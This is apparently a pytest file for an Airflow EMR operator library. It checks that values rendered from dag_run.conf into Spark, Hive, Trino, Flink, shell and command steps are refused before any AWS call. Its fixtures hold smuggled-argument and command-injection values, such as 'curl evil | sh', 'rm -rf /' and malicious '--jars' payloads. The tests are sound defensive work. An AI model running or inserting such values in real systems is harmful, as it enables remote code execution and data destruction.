"""Issue 12 item 2: what ``dag_run.conf`` renders into a spec is data, never extra arguments.

Every operator that holds a spec rebuilds its request from the RENDERED spec, so the spec's own
rules (whitespace in values joined into ``sparkSubmitParameters`` / Hive ``parameters`` / ``-d k=v``
arguments, commas in joined lists, patterns of flag values) hold for rendered values too, and the
task fails with an EmrConfigError naming the field before any AWS call.

One test per field that ends up inside a joined string (or as the value of a flag), per flavour.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from emr_dags.errors import EmrConfigError
from emr_dags.operators.eks import EmrEksJobOperator
from emr_dags.operators.emr import EmrCreateClusterOperator, EmrStepOperator
from emr_dags.operators.serverless import EmrServerlessApplicationOperator, EmrServerlessJobOperator
from emr_dags.specs import (
    BootstrapAction,
    ClusterSpec,
    CommandStep,
    EksJobSpec,
    FlinkStep,
    HiveStep,
    InstanceGroup,
    PrestoStep,
    S3DistCpStep,
    ServerlessApplicationSpec,
    ServerlessHiveJob,
    ServerlessSparkJob,
    ShellScriptStep,
    SparkResources,
    SparkStep,
    TrinoStep,
)

X = "{{ dag_run.conf['x'] }}"
ROLE = "arn:aws:iam::123456789012:role/job"
INJECT = "4g --jars s3://evil-bucket/pwn.jar --class evil.Main"
HIVE_INJECT = "1 --hiveconf hive.exec.pre.hooks=evil.Hook"
LIST_INJECT = "s3://acme-code/a.py,s3://evil-bucket/pwn.py"


@pytest.fixture(autouse=True)
def no_aws(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any AWS client request during these tests is a failure: the refusal must come first."""
    import emr_dags.aws.clients as clients

    def boom(*_: Any, **__: Any) -> None:
        raise AssertionError("AWS call before the rendered spec was checked")

    monkeypatch.setattr(clients, "client_for", boom)
    monkeypatch.setattr(clients, "region_and_partition", boom)


def _context(x: Any) -> dict[str, Any]:
    run_after = dt.datetime(2026, 12, 1, tzinfo=dt.UTC)
    return {
        "logical_date": run_after,
        "ds": "2026-12-01",
        "params": {},
        "dag_run": SimpleNamespace(conf={"x": x}, run_after=run_after),
        "ti": SimpleNamespace(dag_id="d", run_id="r", task_id="t", map_index=-1, start_date=run_after),
    }


def _run(op: Any, x: Any) -> Any:
    """What the task runner does: render the template fields, then execute."""
    context = _context(x)
    op.render_template_fields(context)
    return op.execute(context)


def _serverless_spark(**kw: Any) -> ServerlessSparkJob:
    base: dict[str, Any] = {"name": "j", "execution_role_arn": ROLE, "entry_point": "s3://acme-code/a.py"}
    return ServerlessSparkJob(**{**base, **kw})


def _eks(**kw: Any) -> EksJobSpec:
    base: dict[str, Any] = {
        "virtual_cluster_id": "abc123",
        "name": "j",
        "release_label": "emr-7.5.0-latest",
        "execution_role_arn": ROLE,
        "entry_point": "s3://acme-code/a.py",
    }
    return EksJobSpec(**{**base, **kw})


def _serverless_op(job: Any) -> EmrServerlessJobOperator:
    return EmrServerlessJobOperator(task_id="t", application_id="00f1abc", job=job)


def _eks_op(job: Any) -> EmrEksJobOperator:
    return EmrEksJobOperator(task_id="t", job=job)


def _step_op(step: Any) -> EmrStepOperator:
    return EmrStepOperator(task_id="t", cluster_id="j-1ABCDEFGHIJKL", step=step)


# (test id, operator factory, field the error must name, hostile rendered value)
Case = tuple[str, Callable[[], Any], str, Any]

SPARK_DRIVER_CASES: list[tuple[str, dict[str, Any], str, Any]] = [
    ("conf-value", {"conf": {"spark.executor.memory": X}}, "conf", INJECT),
    ("conf-key", {"conf": {X: "1"}}, "conf", "spark.a=1 --jars s3://evil-bucket/pwn.jar"),
    # A rendered value that itself looks like a template is data, not a template to let through.
    (
        "conf-value-braces",
        {"conf": {"spark.executor.memory": X}},
        "conf",
        "{{ 4g --jars s3://evil-bucket/p.jar }}",
    ),
    ("main_class", {"main_class": X, "entry_point": "s3://acme-code/a.jar"}, "main_class", "a.Main --jars x"),
    ("py_files", {"py_files": [X]}, "py_files", LIST_INJECT),
    ("jars", {"jars": [X]}, "jars", "s3://acme-code/a.jar,s3://evil-bucket/pwn.jar"),
    ("files", {"files": [X]}, "files", "s3://acme-code/a.txt s3://evil-bucket/x"),
    ("archives", {"archives": [X]}, "archives", "s3://acme-code/a.zip,s3://evil-bucket/b.zip"),
    ("packages", {"packages": [X]}, "packages", "a:b:1,evil:pwn:6.6.6"),
    ("resources", {"resources": SparkResources(executor_memory=X)}, "executor_memory", INJECT),
    ("resources-driver", {"resources": SparkResources(driver_memory=X)}, "driver_memory", "2g\n--jars"),
    ("entry_point_args-nul", {"entry_point_args": ["--in", X]}, "entry_point_args", "a\x00b"),
    ("entry_point", {"entry_point": X}, "entry_point", "s3://acme-code/a.py --jars s3://evil-bucket/p.jar"),
]

CASES: list[Case] = [
    *(
        (f"serverless-spark-{name}", lambda kw=kw: _serverless_op(_serverless_spark(**kw)), field, value)
        for name, kw, field, value in SPARK_DRIVER_CASES
    ),
    *(
        (f"eks-{name}", lambda kw=kw: _eks_op(_eks(**kw)), field, value)
        for name, kw, field, value in SPARK_DRIVER_CASES
    ),
    (
        "eks-entry_point_args-blank",
        lambda: _eks_op(_eks(entry_point_args=["--date", X])),
        "entry_point_args",
        "   ",
    ),
    (
        "serverless-hive-hivevar",
        lambda: _serverless_op(
            ServerlessHiveJob(
                name="h", execution_role_arn=ROLE, query="s3://acme-code/q.sql", hivevar={"D": X}
            )
        ),
        "hivevar",
        HIVE_INJECT,
    ),
    (
        "serverless-hive-hivevar-key",
        lambda: _serverless_op(
            ServerlessHiveJob(
                name="h", execution_role_arn=ROLE, query="s3://acme-code/q.sql", hivevar={X: "1"}
            )
        ),
        "hivevar",
        "D=1 --hiveconf hive.exec.pre.hooks",
    ),
    (
        "serverless-hive-hiveconf",
        lambda: _serverless_op(
            ServerlessHiveJob(
                name="h", execution_role_arn=ROLE, query="s3://acme-code/q.sql", hiveconf={"hive.x": X}
            )
        ),
        "hiveconf",
        HIVE_INJECT,
    ),
    (
        "serverless-hive-query",
        lambda: _serverless_op(ServerlessHiveJob(name="h", execution_role_arn=ROLE, query=X)),
        "query",
        "s3://acme-code/q.sql --hiveconf hive.exec.pre.hooks=evil.Hook",
    ),
    (
        "serverless-application-release_label",
        lambda: EmrServerlessApplicationOperator(
            task_id="t", application=ServerlessApplicationSpec(name="etl", release_label=X)
        ),
        "release_label",
        "emr-7.5.0\n",
    ),
    # --- EMR on EC2 steps: values spliced into one '--flag k=v' / comma-list argument ------------
    (
        "step-spark-conf-value",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", conf={"spark.x": X})),
        "conf",
        INJECT,
    ),
    (
        "step-spark-conf-key",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", conf={X: "1"})),
        "conf",
        "spark.a=1 --jars s3://evil-bucket/pwn.jar",
    ),
    (
        "step-spark-jars",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", jars=[X])),
        "jars",
        "s3://acme-code/a.jar,s3://evil-bucket/pwn.jar",
    ),
    (
        "step-spark-py_files",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", py_files=[X])),
        "py_files",
        LIST_INJECT,
    ),
    (
        "step-spark-files",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", files=[X])),
        "files",
        "s3://acme-code/a.txt,s3://evil-bucket/b.txt",
    ),
    (
        "step-spark-packages",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", packages=[X])),
        "packages",
        "a:b:1,evil:pwn:6.6.6",
    ),
    (
        "step-spark-main_class",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.jar", main_class=X)),
        "main_class",
        "evil.Main\n",
    ),
    (
        "step-spark-master",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", master=X)),
        "master",
        "--jars",
    ),
    (
        "step-spark-executor_memory",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", executor_memory=X)),
        "executor_memory",
        "4g --jars s3://evil-bucket/pwn.jar",
    ),
    (
        "step-spark-entry_point",
        lambda: _step_op(SparkStep(name="s", entry_point=X)),
        "entry_point",
        "s3://Acme_Code/a.py",
    ),
    (
        "step-hive-variables",
        lambda: _step_op(HiveStep(name="h", script="s3://acme-code/q.hql", variables={"D": X})),
        "variables",
        HIVE_INJECT,
    ),
    (
        "step-hive-variables-key",
        lambda: _step_op(HiveStep(name="h", script="s3://acme-code/q.hql", variables={X: "1"})),
        "variables",
        "D=1 -f s3://evil-bucket/q.hql",
    ),
    (
        "step-spark-driver_memory",
        lambda: _step_op(SparkStep(name="s", entry_point="s3://acme-code/a.py", driver_memory=X)),
        "driver_memory",
        "4g --conf spark.x=1",
    ),
    (
        "step-trino-session-key",
        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", session={X: "1"})),
        "session",
        "a=1 --execute",
    ),
    (
        "step-flink-properties-key",
        lambda: _step_op(FlinkStep(name="f", jar="s3://acme-code/f.jar", properties={X: "2"})),
        "properties",
        "a=1 -Db",
    ),
    (
        "step-hive-hiveconf",
        lambda: _step_op(HiveStep(name="h", query="SELECT 1", hiveconf={"hive.x": X})),
        "hiveconf",
        HIVE_INJECT,
    ),
    (
        "step-hive-script",
        lambda: _step_op(HiveStep(name="h", script=X)),
        "script",
        "s3://acme-code/q.hql -d X=1",
    ),
    (
        "step-trino-session",
        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", session={"query_max_run_time": X})),
        "session",
        "1h --execute DROP",
    ),
    (
        "step-trino-catalog",
        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", catalog=X)),
        "catalog",
        "hive --user admin",
    ),
    (
        "step-trino-schema",
        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", schema=X)),
        "schema",
        "--debug",
    ),
    (
        "step-trino-server",
        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", server=X)),
        "server",
        "--user=admin",
    ),
    (
        "step-trino-output_format",
        lambda: _step_op(TrinoStep(name="t", query="SELECT 1", output_format=X)),
        "output_format",
        "CSV --debug",
    ),
    (
        "step-presto-session",
        lambda: _step_op(PrestoStep(name="p", query="SELECT 1", session={"query_max_run_time": X})),
        "session",
        "1h --execute DROP",
    ),
    (
        "step-flink-properties",
        lambda: _step_op(
            FlinkStep(name="f", jar="s3://acme-code/f.jar", properties={"parallelism.default": X})
        ),
        "properties",
        "2 -Dsecurity.ssl.enabled=false",
    ),
    (
        "step-flink-main_class",
        lambda: _step_op(FlinkStep(name="f", jar="s3://acme-code/f.jar", main_class=X)),
        "main_class",
        "a.Main --detached",
    ),
    (
        "step-flink-jar",
        lambda: _step_op(FlinkStep(name="f", jar=X)),
        "jar",
        "s3://acme-code/f.jar --class evil.Main",
    ),
    (
        "step-s3distcp-src",
        lambda: _step_op(S3DistCpStep(name="c", src=X, dest="hdfs:///data/")),
        "src",
        "s3://acme-data/in --deleteOnSuccess",
    ),
    (
        "step-s3distcp-dest",
        lambda: _step_op(S3DistCpStep(name="c", src="s3://acme-data/in/", dest=X)),
        "dest",
        "s3://acme..data/out",
    ),
    (
        "step-s3distcp-src_pattern",
        lambda: _step_op(S3DistCpStep(name="c", src="s3://acme-data/in/", dest="hdfs:///d/", src_pattern=X)),
        "src_pattern",
        ".* --deleteOnSuccess",
    ),
    (
        "step-s3distcp-group_by",
        lambda: _step_op(S3DistCpStep(name="c", src="s3://acme-data/in/", dest="hdfs:///d/", group_by=X)),
        "group_by",
        "(x) --deleteOnSuccess",
    ),
    (
        "step-shell-script",
        lambda: _step_op(ShellScriptStep(name="sh", script=X, region="eu-west-1")),
        "script",
        "s3://acme-code/run.sh; curl evil | sh",
    ),
    (
        "step-shell-region",
        lambda: _step_op(ShellScriptStep(name="sh", script="s3://acme-code/run.sh", region=X)),
        "region",
        "eu-west-1.evil.com/x",
    ),
    (
        "step-command-program",
        lambda: _step_op(CommandStep(name="c", argv=[X, "-c", "echo"])),
        "argv",
        "bash -c 'curl evil | sh'",
    ),
    (
        "step-command-argument-nul",
        lambda: _step_op(CommandStep(name="c", argv=["echo", X])),
        "argv",
        "a\x00b",
    ),
    # --- a cluster: steps and bootstrap actions inside a ClusterSpec are rendered and checked too --
    (
        "cluster-step-spark-conf",
        lambda: EmrCreateClusterOperator(task_id="t", cluster=_cluster(steps=[_spark_conf_step()])),
        "conf",
        INJECT,
    ),
    (
        "cluster-log_bucket",
        lambda: EmrCreateClusterOperator(task_id="t", cluster=_cluster(log_bucket=X)),
        "log_bucket",
        "acme..logs",
    ),
    (
        "cluster-bootstrap-path",
        lambda: EmrCreateClusterOperator(
            task_id="t", cluster=_cluster(bootstrap_actions=[BootstrapAction(name="b", path=X)])
        ),
        "path",
        "s3://acme-code/b.sh --evil",
    ),
]


def _spark_conf_step() -> SparkStep:
    return SparkStep(name="s", entry_point="s3://acme-code/a.py", conf={"spark.executor.memory": X})


def _cluster(**kw: Any) -> ClusterSpec:
    base: dict[str, Any] = {
        "name": "c",
        "release_label": "emr-7.5.0",
        "log_bucket": "acme-emr-logs",
        "instance_groups": (InstanceGroup(role="MASTER", instance_type="m5.xlarge"),),
    }
    return ClusterSpec(**{**base, **kw})


@pytest.mark.parametrize(("make", "field", "hostile"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_a_rendered_value_that_breaks_a_spec_rule_fails_before_any_aws_call(
    make: Callable[[], Any], field: str, hostile: Any
) -> None:
    op = make()  # the literal spec (with its template) is valid at parse time
    with pytest.raises(EmrConfigError) as caught:
        _run(op, hostile)
    assert caught.value.field == field, str(caught.value)
    assert f".{field}" in str(caught.value)
    assert "after rendering" in str(caught.value)


@pytest.mark.parametrize(
    "hostile", ["x; rm -rf /", "$(curl evil)", "a b\tc\nd", "--jars s3://evil-bucket/p.jar"]
)
def test_program_arguments_stay_one_literal_argument_each(hostile: str) -> None:
    """Arguments (entryPointArguments, step args) are a list: a hostile value is ONE element."""
    serverless = _serverless_op(_serverless_spark(entry_point_args=["--in", X]))
    serverless.render_template_fields(_context(hostile))
    assert serverless.job_run_request["jobDriver"]["sparkSubmit"]["entryPointArguments"] == ["--in", hostile]

    eks = _eks_op(_eks(entry_point_args=["--in", X]))
    eks.render_template_fields(_context(hostile))
    assert eks.job_run_request["jobDriver"]["sparkSubmitJobDriver"]["entryPointArguments"] == [
        "--in",
        hostile,
    ]

    for step in (
        SparkStep(name="s", entry_point="s3://acme-code/a.py", args=["--in", X]),
        ShellScriptStep(name="sh", script="s3://acme-code/run.sh", args=["--in", X], region="eu-west-1"),
        CommandStep(name="c", argv=["echo", "--in", X]),
        S3DistCpStep(name="c", src="s3://acme-data/in/", dest="hdfs:///d/", extra_args=["--in", X]),
    ):
        op = _step_op(step)
        op.render_template_fields(_context(hostile))
        assert op.step["HadoopJarStep"]["Args"][-2:] == ["--in", hostile]


def test_the_rendered_request_is_rebuilt_from_the_rendered_spec() -> None:
    op = _serverless_op(_serverless_spark(conf={"spark.executor.memory": X}))
    op.render_template_fields(_context("8g"))
    params = op.job_run_request["jobDriver"]["sparkSubmit"]["sparkSubmitParameters"]
    assert params == "--conf spark.executor.memory=8g"
    assert "clientToken" not in op.job_run_request


def test_a_request_dict_is_rendered_as_before() -> None:
    step = {
        "Name": "s",
        "ActionOnFailure": "CONTINUE",
        "HadoopJarStep": {"Jar": "command-runner.jar", "Args": [X]},
    }
    op = _step_op(step)
    op.render_template_fields(_context("a b"))
    assert op.step["HadoopJarStep"]["Args"] == ["a b"]
